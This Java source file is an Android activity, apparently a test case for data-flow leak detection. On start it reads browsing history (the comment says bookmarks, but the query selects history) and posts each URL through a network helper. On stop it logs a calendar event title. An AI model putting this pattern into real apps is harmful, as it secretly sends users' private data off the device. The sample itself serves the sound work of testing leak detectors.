package org.example.flows.phone;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.Browser;
import android.util.Log;
import org.example.flows.Net;

/** Stores that phones no longer have: bookmarks and the first calendar. */
public class OldStores extends Activity {
    @Override
    protected void onStart() {
        super.onStart();
        Cursor pages = getContentResolver().query(
                Browser.BOOKMARKS_URI, Browser.HISTORY_PROJECTION, "bookmark = 0", null, null);
        while (pages.moveToNext()) {
            Net.post(pages.getString(Browser.HISTORY_PROJECTION_URL_INDEX));
        }
    }

    @Override
    protected void onStop() {
        super.onStop();
        Uri events = Uri.parse("content://calendar/events");
        Cursor rows = getContentResolver().query(events, new String[] {"title"}, null, null, null);
        if (rows.moveToFirst()) {
            Log.i("event", rows.getString(0));
        }
    }
}
